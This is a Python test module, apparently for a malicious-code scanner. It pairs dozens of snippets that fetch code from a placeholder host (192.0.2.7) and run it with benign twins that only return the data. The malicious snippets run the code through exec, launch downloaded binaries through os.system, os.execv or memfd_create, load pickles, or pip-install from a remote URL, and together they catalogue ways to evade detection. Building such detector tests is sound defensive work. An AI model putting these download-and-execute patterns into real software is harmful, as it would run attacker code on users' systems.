"""Every way to receive code, and protocols that a list of HTTP clients leaves out."""

from __future__ import annotations

from pratique.verdict import Verdict
from tests.evasions.sample import MALICIOUS, Evasion, evasion

_URL = "'http://192.0.2.7/a'"


def _fetch(title: str, imports: str, expression: str, verdict: Verdict = MALICIOUS) -> Evasion:
    """``exec`` of what an expression fetches at import, beside the same call made by the user and only returned."""
    bad = f"{imports}\nexec({expression.replace('URL', _URL)})\n"
    good = f"{imports}\n\ndef get(url):\n    return {expression.replace('URL', 'url')}\n"
    return evasion(title, bad, good, verdict)


def _lines(title: str, code: str, verdict: Verdict = MALICIOUS) -> Evasion:
    """Statements that end in ``exec(X)``; the twin wraps them in a function and returns X."""
    body = "".join(f"    {line}\n" for line in code.replace("exec(", "return str(").splitlines())
    return evasion(title, code, "def honest():\n" + body, verdict)


CASES = (
    _fetch("urlopen", "import urllib.request", "urllib.request.urlopen(URL).read()"),
    _fetch(
        "urlopen of a Request",
        "from urllib.request import Request, urlopen",
        "urlopen(Request(URL, headers={'User-Agent': 'x'})).read()",
    ),
    _fetch("opener", "import urllib.request", "urllib.request.build_opener().open(URL).read()"),
    _fetch("FancyURLopener", "import urllib.request", "urllib.request.FancyURLopener().open(URL).read()"),
    _fetch("urllib of Python 2", "import urllib2", "urllib2.urlopen(URL).read()"),
    _fetch("urllib of six", "from six.moves import urllib", "urllib.request.urlopen(URL).read()"),
    _fetch("requests text", "import requests", "requests.get(URL).text"),
    _fetch("requests content", "import requests", "requests.get(URL).content.decode()"),
    _fetch("requests json", "import requests", "requests.get(URL).json()['code']"),
    _fetch("requests headers", "import requests", "requests.get(URL).headers['X-Code']"),
    _fetch("requests cookies", "import requests", "requests.get(URL).cookies['c']"),
    _fetch("requests request", "import requests", "requests.request('GET', URL).text"),
    _fetch("requests post", "import requests", "requests.post(URL).text"),
    _fetch("requests session", "import requests", "requests.Session().get(URL).text"),
    _fetch("requests session in sessions", "from requests.sessions import Session", "Session().get(URL).text"),
    _fetch("requests raw", "import requests", "requests.get(URL, stream=True).raw.read()"),
    _fetch("requests iter_content", "import requests", "b''.join(requests.get(URL).iter_content(1))"),
    _fetch("requests iter_lines", "import requests", "next(requests.get(URL).iter_lines())"),
    _fetch(
        "requests prepared", "import requests", "requests.Session().send(requests.Request('GET', URL).prepare()).text"
    ),
    _fetch("requests vendored by pip", "from pip._vendor import requests", "requests.get(URL).text"),
    _fetch("requests of another name", "from requests import get as memset", "memset(URL).text"),
    _fetch("httpx", "import httpx", "httpx.get(URL).text"),
    _fetch("httpx client", "import httpx", "httpx.Client().get(URL).text"),
    _fetch("urllib3", "import urllib3", "urllib3.PoolManager().request('GET', URL).data"),
    _fetch("urllib3 top level", "import urllib3", "urllib3.request('GET', URL).data"),
    _fetch("urllib3 urlopen", "import urllib3", "urllib3.PoolManager().urlopen('GET', URL).data"),
    _fetch("niquests", "import niquests", "niquests.get(URL).text"),
    _fetch("curl_cffi", "from curl_cffi import requests as r", "r.get(URL).text"),
    _fetch("tls_client", "import tls_client", "tls_client.Session().get(URL).text"),
    _fetch("mechanize", "import mechanize", "mechanize.Browser().open(URL).read()"),
    _fetch("mechanicalsoup", "import mechanicalsoup", "mechanicalsoup.StatefulBrowser().open(URL).text"),
    _fetch("httplib2", "import httplib2", "httplib2.Http().request(URL)[1]"),
    _fetch("tornado", "from tornado.httpclient import HTTPClient", "HTTPClient().fetch(URL).body"),
    _fetch("pooch", "import pooch", "open(pooch.retrieve(URL, None)).read()"),
    _fetch("fsspec", "import fsspec", "fsspec.open(URL).open().read()"),
    _fetch("smart_open", "from smart_open import open as so", "so(URL).read()"),
    _fetch("pandas", "import pandas", "pandas.read_csv(URL)['code'][0]"),
    _fetch("XML-RPC", "import xmlrpc.client", "xmlrpc.client.ServerProxy(URL).code()"),
    _fetch("FTP by urlopen", "from urllib.request import urlopen", "urlopen(URL.replace('http', 'ftp')).read()"),
    _fetch(
        "setuptools' package index",
        "from setuptools.package_index import PackageIndex",
        "PackageIndex().open_url(URL).read()",
    ),
    _fetch("DNS text record", "import dns.resolver", "str(dns.resolver.resolve(URL, 'TXT')[0])"),
    _fetch("websocket-client", "import websocket", "websocket.create_connection(URL).recv()"),
    _fetch("redis", "import redis", "redis.Redis(URL).get('c')"),
    _fetch("mongo", "import pymongo", "pymongo.MongoClient(URL).a.b.find_one()['c']"),
    _fetch("boto3", "import boto3", "boto3.client('s3').get_object(Bucket='b', Key=URL)['Body'].read()"),
    _fetch("blockchain", "from web3 import Web3", "Web3(Web3.HTTPProvider(URL)).eth.get_transaction('0x0')['input']"),
    _fetch("gist by an API", "import requests, base64", "base64.b64decode(requests.get(URL).json()['content'])"),
    _fetch("telegram", "import telebot", "telebot.TeleBot(URL).get_updates()[0].message.text"),
    _fetch("mail", "import imaplib", "imaplib.IMAP4_SSL(URL).fetch('1', '(RFC822)')[1][0][1]"),
    _fetch("mail by POP", "import poplib", "poplib.POP3(URL).retr(1)[1][0]"),
    _fetch("news", "import nntplib", "nntplib.NNTP(URL).body('1')[1].lines[0]"),
    _fetch("telnet", "import telnetlib", "telnetlib.Telnet(URL).read_all()"),
    _fetch("SSH", "import paramiko", "paramiko.SSHClient().exec_command(URL)[1].read()"),
    _fetch("a manager's proxy", "from multiprocessing.connection import Client", "Client((URL, 1)).recv()"),
    _fetch(
        "the address assembled",
        "import requests",
        "requests.get('http' + '://' + '.'.join(map(str, [192, 0, 2, 7]))).text",
    ),
    _lines(
        "http.client",
        "import http.client\nc = http.client.HTTPConnection('192.0.2.7')\nc.request('GET', '/a')\nexec(c.getresponse().read())\n",
    ),
    _lines(
        "http.client, from import",
        "from http.client import HTTPSConnection as H\nc = H('stage.example.invalid')\nc.request('GET', '/a')\nr = c.getresponse()\nexec(r.read().decode())\n",
    ),
    _lines("socket", "import socket\ns = socket.socket()\ns.connect(('192.0.2.7', 1))\nexec(s.recv(4096))\n"),
    _lines(
        "socket, in a loop",
        "import socket\ns = socket.socket()\ns.connect(('192.0.2.7', 1))\nd = b''\nwhile True:\n    p = s.recv(4096)\n    if not p:\n        break\n    d += p\nexec(d)\n",
    ),
    _lines(
        "socket, create_connection in with",
        "import socket\nwith socket.create_connection(('192.0.2.7', 1)) as s:\n    exec(s.recv(4096))\n",
    ),
    _lines(
        "socket by makefile",
        "import socket\ns = socket.create_connection(('192.0.2.7', 1))\nexec(s.makefile().read())\n",
    ),
    _lines(
        "socket with recv_into",
        "import socket\ns = socket.create_connection(('192.0.2.7', 1))\nb = bytearray(4096)\ns.recv_into(b)\nexec(b)\n",
    ),
    _lines(
        "socket over TLS",
        "import socket, ssl\ns = ssl.create_default_context().wrap_socket(socket.create_connection(('192.0.2.7', 1)))\nexec(s.recv(4096))\n",
    ),
    _lines(
        "socket server",
        "import socket\ns = socket.socket()\ns.bind(('', 1))\ns.listen()\nc, a = s.accept()\nexec(c.recv(4096))\n",
    ),
    _lines(
        "datagram",
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'x', ('192.0.2.7', 1))\nexec(s.recvfrom(4096)[0])\n",
    ),
    _lines(
        "FTP with a callback",
        "import ftplib\nd = []\nf = ftplib.FTP('192.0.2.7')\nf.retrbinary('RETR a', d.append)\nexec(b''.join(d))\n",
    ),
    _lines("FTP executes each line", "import ftplib\nftplib.FTP('192.0.2.7').retrlines('RETR a', exec)\n"),
    _lines(
        "pycurl",
        "import io, pycurl\nb = io.BytesIO()\nc = pycurl.Curl()\nc.setopt(c.URL, 'http://192.0.2.7/a')\nc.setopt(c.WRITEDATA, b)\nc.perform()\nexec(b.getvalue())\n",
    ),
    evasion(
        "aiohttp",
        "import aiohttp, asyncio\n\nasync def go():\n    async with aiohttp.ClientSession() as s:\n"
        "        async with s.get('http://192.0.2.7/a') as r:\n            exec(await r.text())\n\nasyncio.run(go())\n",
        "import aiohttp\n\nasync def go(url):\n    async with aiohttp.ClientSession() as s:\n"
        "        async with s.get(url) as r:\n            return await r.text()\n",
    ),
    evasion(
        "asyncio streams",
        "import asyncio\n\nasync def go():\n    r, w = await asyncio.open_connection('192.0.2.7', 1)\n"
        "    exec(await r.read())\n\nasyncio.run(go())\n",
        "import asyncio\n\nasync def go(host):\n    r, w = await asyncio.open_connection(host, 1)\n    return await r.read()\n",
    ),
    evasion(
        "websockets",
        "import asyncio, websockets\n\nasync def go():\n    async with websockets.connect('ws://192.0.2.7') as w:\n"
        "        exec(await w.recv())\n\nasyncio.run(go())\n",
        "import websockets\n\nasync def go(url):\n    async with websockets.connect(url) as w:\n        return await w.recv()\n",
    ),
    evasion(
        "httpx asynchronous",
        "import asyncio, httpx\n\nasync def go():\n    async with httpx.AsyncClient() as c:\n"
        "        r = await c.get('http://192.0.2.7/a')\n    exec(r.text)\n\nasyncio.run(go())\n",
        "import httpx\n\nasync def go(url):\n    async with httpx.AsyncClient() as c:\n        return await c.get(url)\n",
    ),
    evasion(
        "fetched to a file and imported",
        "import sys, urllib.request\nurllib.request.urlretrieve('http://192.0.2.7/a.py', '/tmp/hid.py')\n"
        "sys.path.insert(0, '/tmp')\nimport hid\n",
        "import urllib.request\n\ndef get(p):\n    urllib.request.urlretrieve('https://d.example.invalid/a', p)\n",
    ),
    evasion(
        "fetched to a file and run by runpy",
        "import runpy, urllib.request\nurllib.request.urlretrieve('http://192.0.2.7/a.py', '/tmp/a.py')\nrunpy.run_path('/tmp/a.py')\n",
        "import runpy\n\ndef run(p):\n    runpy.run_path(p)\n",
    ),
    evasion(
        "fetched library loaded",
        "import ctypes, requests\nopen('/tmp/a.so', 'wb').write(requests.get('http://192.0.2.7/a').content)\nctypes.CDLL('/tmp/a.so')\n",
        "import ctypes\n\ndef load(p):\n    return ctypes.CDLL(p)\n",
    ),
    evasion(
        "fetched archive unpacked and imported",
        "import io, sys, zipfile, requests\nzipfile.ZipFile(io.BytesIO(requests.get('http://192.0.2.7/a').content)).extractall('/tmp/d')\n"
        "sys.path.append('/tmp/d')\nimport hid\n",
        "import io, zipfile, requests\n\ndef get(u, p):\n    zipfile.ZipFile(io.BytesIO(requests.get(u).content)).extractall(p)\n",
    ),
    evasion(
        "fetched pickle loaded",
        "import pickle, requests\npickle.loads(requests.get('http://192.0.2.7/a').content)\n",
        "import pickle\n\ndef load(f):\n    return pickle.load(f)\n",
    ),
    evasion(
        "fetched file chunk by chunk, then started",
        "import os, requests\nr = requests.get('http://192.0.2.7/a', stream=True)\nwith open('/tmp/a', 'wb') as f:\n"
        "    for c in r.iter_content(8192):\n        f.write(c)\nos.chmod('/tmp/a', 0o755)\nos.system('/tmp/a &')\n",
        "import requests\n\ndef get(u, p):\n    r = requests.get(u, stream=True)\n    with open(p, 'wb') as f:\n"
        "        for c in r.iter_content(8192):\n            f.write(c)\n",
    ),
    evasion(
        "fetched file copied by shutil, then started",
        "import os, shutil, urllib.request as u\nwith u.urlopen('http://192.0.2.7/a') as r, open('/tmp/a', 'wb') as f:\n"
        "    shutil.copyfileobj(r, f)\nos.chmod('/tmp/a', 0o755)\nos.popen('/tmp/a')\n",
        "import shutil, urllib.request as u\n\ndef get(url, p):\n    with u.urlopen(url) as r, open(p, 'wb') as f:\n        shutil.copyfileobj(r, f)\n",
    ),
    evasion(
        "written by os.write, then started",
        "import os, urllib.request as u\nfd = os.open('/tmp/a', os.O_CREAT | os.O_WRONLY, 0o755)\n"
        "os.write(fd, u.urlopen('http://192.0.2.7/a').read())\nos.close(fd)\nos.execv('/tmp/a', ['a'])\n",
        "import os\nfd = os.open('/tmp/a', os.O_CREAT | os.O_WRONLY)\nos.write(fd, b'x')\nos.close(fd)\n",
    ),
    evasion(
        "an anonymous file, then started",
        "import os, urllib.request as u\nfd = os.memfd_create('', 0)\nos.write(fd, u.urlopen('http://192.0.2.7/a').read())\n"
        "os.execve(f'/proc/self/fd/{fd}', ['x'], os.environ)\n",
        "import os\nfd = os.memfd_create('x')\nos.write(fd, b'x')\n",
    ),
    evasion(
        "Windows download function",
        "import ctypes, os\nctypes.windll.urlmon.URLDownloadToFileW(0, 'http://192.0.2.7/a.exe', 'C:/a.exe', 0, 0)\nos.startfile('C:/a.exe')\n",
        "import os\n\ndef show(p):\n    os.startfile(p)\n",
    ),
    evasion(
        "downloaded by wget's module",
        "import os, wget\np = wget.download('http://192.0.2.7/a', '/tmp/a')\nos.chmod(p, 0o755)\nos.system(p)\n",
        "import wget\n\ndef get(u):\n    return wget.download(u)\n",
    ),
    evasion(
        "pip in this process",
        "import pip\npip.main(['install', 'http://192.0.2.7/a.tar.gz'])\n",
        "import pip\nV = pip.__version__\n",
    ),
    evasion(
        "pip in another process",
        "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'http://192.0.2.7/a.whl'])\n",
        "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'compileall', '.'])\n",
    ),
)
